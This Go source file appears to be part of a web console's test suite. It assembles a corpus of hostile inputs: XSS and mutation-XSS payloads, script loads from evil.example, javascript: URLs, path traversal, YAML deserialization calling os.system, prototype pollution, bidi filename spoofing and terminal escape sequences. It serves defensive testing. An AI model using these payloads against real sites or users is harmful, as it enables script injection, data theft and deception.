package console

import "strings"

// ran is what a payload would execute, in all that is JavaScript.
const ran = `window.__ran=1`

// payloads are texts that would run, load something, mislead or break a page where they are taken for anything but
// text. Each that runs sets window.__ran.
var payloads = func() []string {
	var all []string
	add := func(format string, values ...string) {
		for _, v := range values {
			all = append(all, strings.ReplaceAll(strings.Replace(format, "%s", v, 1), "RAN", ran))
		}
	}
	// HTML that runs by itself, or by a touch.
	add(`<%s src=x onerror="RAN">`, "img", "script", "video", "audio", "embed", "input type=image", "image",
		"track", "source")
	add(`<%s onload="RAN"></x>`, "svg", "body", "iframe", "link rel=stylesheet href=x", "style", "object data=x")
	add(`<%s autofocus tabindex=0 onfocus="RAN">x`, "a", "input", "select", "textarea", "button", "div", "svg",
		"keygen", "summary")
	add(`<x %s="RAN">x</x>`, "onclick", "onmouseover", "onpointerenter", "onwheel", "oncontentvisibilityautostatechange",
		`style="animation:spin" onanimationstart`, `style="transition:1s" ontransitionend`, "onbeforetoggle popover",
		"onscrollend")
	add(`<%s ontoggle="RAN">x`, "details open", "dialog open", "div popover")
	add(`"><%s>`, `script>RAN</script`, `img src onerror=RAN`,
		`iframe srcdoc="<script>parent.__ran=1</script>"`, `base href=//evil.example/`,
		`meta http-equiv=refresh content="0;url=//evil.example"`, `link rel=preload as=script href=//evil.example/x.js`,
		`form action=//evil.example><button`, `object data="data:text/html,<script>RAN</script>"`,
		`embed src=//evil.example/x.swf`,
		`script type=module>import "//evil.example/x.js"</script`, `script src=//evil.example/x.js></script`,
		`frameset onload=RAN`, `portal src=//evil.example`, `marquee onstart=RAN`,
		`template shadowrootmode=open><img src=x onerror=RAN`)
	// HTML that ends what it is in, and HTML that becomes another one when it is parsed twice.
	add(`</%s><script>RAN</script>`, "code", "pre", "textarea", "title", "style", "script", "noscript", "xmp", "iframe",
		"select", "template", "svg", "math", "option", "span", "div", "li")
	add(`%s`, `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=RAN&gt;">`,
		`<svg></p><style><a id="</style><img src=1 onerror=RAN>">`,
		`<noscript><p title="</noscript><img src=x onerror=RAN>">`,
		`<form><math><mtext></form><form><mglyph><style></math><img src onerror=RAN>`,
		`<!--><img src=x onerror=RAN>-->`,
		`<![CDATA[<]]>script>RAN</script>`, `<img src="x`+"`"+`<script>RAN</script>"`+"`"+`>`,
		`<scr<script>ipt>RAN</scr</script>ipt>`,
		`<<script>RAN//<</script>`, `<IMG """><SCRIPT>RAN</SCRIPT>">`, "<img\tsrc=x\nonerror=RAN>",
		"<img\fsrc=x\ronerror=RAN>",
		`<svg><animate onbegin=RAN attributeName=x dur=1s>`, `<svg><use href="data:image/svg+xml,<svg id=x onload=RAN>#x">`,
		`<svg><a xlink:href="javascript:RAN"><text y=20>x</text></a></svg>`,
		`<svg><foreignObject><iframe onload=RAN></foreignObject></svg>`,
		`<svg><set attributeName=href to=javascript:RAN />`, `<svg><script xlink:href="data:,RAN" />`,
		`&lt;script&gt;RAN&lt;/script&gt;`,
		`&#60;img src=x onerror=RAN&#62;`, `\u003cscript\u003eRAN\u003c/script\u003e`,
		`%3Cscript%3ERAN%3C/script%3E`, `+ADw-script+AD4-RAN+ADw-/script+AD4-`)
	// JavaScript, and the templates of what builds pages.
	add(`%s`, `';RAN;//`, `";RAN;//`, "`;RAN;//", `'-(RAN)-'`, `${RAN}`, "`${RAN}`", `{{RAN}}`,
		`{{constructor.constructor('RAN')()}}`,
		`{{$on.constructor('RAN')()}}`, `[[RAN]]`, `<%= RAN %>`, `<%- RAN %>`, `#{RAN}`, `@{RAN}`,
		`{% RAN %}`, `*{RAN}`, `{!! RAN !!}`, `${{RAN}}`,
		`\');RAN;//`, `*/RAN/*`, `-->RAN<!--`, `function(){RAN}()`, `(()=>{RAN})()`, `onclick=RAN`,
		`{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=RAN>"}}`,
		`{"$$typeof":"react.element","type":"script"}`,
		`{"type":"script","props":{"children":"RAN"}}`, `{"toString":"x","valueOf":"x"}`,
		`import("//evil.example/x.js")`)
	// URLs.
	add(`%s:RAN//`, "javascript", "JaVaScRiPt", " javascript", "java\tscript", "\x01javascript", "vbscript",
		"livescript", "view-source:javascript")
	add(`%s`, `javascript://%0aRAN`, `javascript&colon;RAN`, `data:text/html,<script>RAN</script>`,
		`data:text/html;base64,PHNjcmlwdD4=`,
		`data:image/svg+xml,<svg onload=RAN>`, `//evil.example/x`, `\\evil.example\x`,
		`https://evil.example/?`, `blob:https://evil.example/1`,
		`../../../../etc/passwd`, `..%2f..%2fapi`, `?watch=1&resourceVersion=0`, `#code=stolen`,
		`/console/session`, `a%00b`, `%`, `%zz`, `%E0%A4%A`)
	// CSS.
	add(`%s`, `<style>@import url("//evil.example/x.css");*{display:none}</style>`,
		`x;background:url(//evil.example/x)`, `expression(RAN)`,
		`}*{display:none}`, `position:fixed;inset:0;z-index:99`, `c0 dim found error`, `--back:red`,
		`"></style><style>body{visibility:hidden}`)
	// Texts that look like others, or move what is around them: directions, what is not seen, controls of a terminal.
	for c := rune(0x202a); c <= 0x202e; c++ {
		add("safe%sgnp.exe", string(c))
	}
	for c := rune(0x2066); c <= 0x2069; c++ {
		add("safe%shidden", string(c))
	}
	add("a%sb", "\u200b", "\u200e", "\u200f", "\u2028", "\u2029", "\u2060", "\ufeff", "\u00ad", "\u061c",
		"\u180e", "\u0085", "\u007f", "\U000e0041",
		"\ufffd", "\u0301\u0302\u0303\u0304", strings.Repeat("\u0489", 100), "\ufdfd", "ﷺ",
		"\U0001f468\u200d\U0001f469", "ſcript", "<ſcript>", "＜script＞")
	add("\x1b%s", "[31mred\x1b[0m", "[2J\x1b[H", "]8;;https://evil.example\x07link\x1b]8;;\x07", "]0;title\x07",
		"P+q\x1b\\", "c", "[?1049h", "]52;c;eA==\x07")
	add("x%sy", "\r\n", "\r", "\b\b\b", "\a", "\v", "\f")
	// YAML, JSON, and names that every object of JavaScript has.
	add(`%s`, `&a [*a,*a]`, `*alias`, `!!js/function 'function(){RAN}'`,
		`!!python/object/apply:os.system ["x"]`, "---\n# x", "...", `<<: *x`, "a: |\n  b", "? x",
		`@x`, "`x", `%YAML 1.2`, `~`, `null`, `yes`, `0o17`, `1e999`, `-.inf`, `.nan`, `2001-12-14`, `"`,
		`'`, `\`, `{`, `[`, `__proto__`, `constructor`,
		`prototype`, `toString`, `hasOwnProperty`, `valueOf`, `__defineGetter__`,
		`{"__proto__":{"isAdmin":true}}`, `{"constructor":{"prototype":{"isAdmin":true}}}`)
	return all
}()
